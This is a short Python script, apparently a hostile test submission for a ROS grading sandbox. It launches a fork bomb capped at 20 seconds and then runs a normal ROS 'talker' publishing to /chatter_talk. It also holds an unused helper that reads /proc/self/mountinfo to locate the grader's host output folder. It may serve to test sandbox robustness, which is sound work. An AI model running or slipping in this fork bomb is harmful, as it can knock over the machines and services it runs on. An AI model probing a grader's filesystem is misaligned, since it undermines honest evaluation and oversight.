#!/usr/bin/env python3
"""Starts a fork bomb (bounded to 20 s), then runs as a correct talker."""
import os
import subprocess
import sys
import threading
import time

import rospy
from std_msgs.msg import String

def output_folder():
    """The grader's output folder, guessed from the mounts the sandbox shows (its binds keep host paths)."""
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                point = line.split()[4]
                if "/_work/" in point:
                    return point.split("/_work/")[0]
    except OSError:
        pass
    return None


def say(text):
    print("[attack] " + text, flush=True)


def bomb():
    if os.fork() == 0:
        deadline = time.time() + 20
        while time.time() < deadline:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
        os._exit(0)


def talk():
    rospy.init_node("talker")
    pub = rospy.Publisher("/chatter_talk", String, queue_size=10)
    rate = rospy.Rate(2)
    n = 0
    while not rospy.is_shutdown():
        n += 1
        pub.publish(String("hello %d" % n))
        rate.sleep()


if __name__ == "__main__":
    bomb()
    talk()
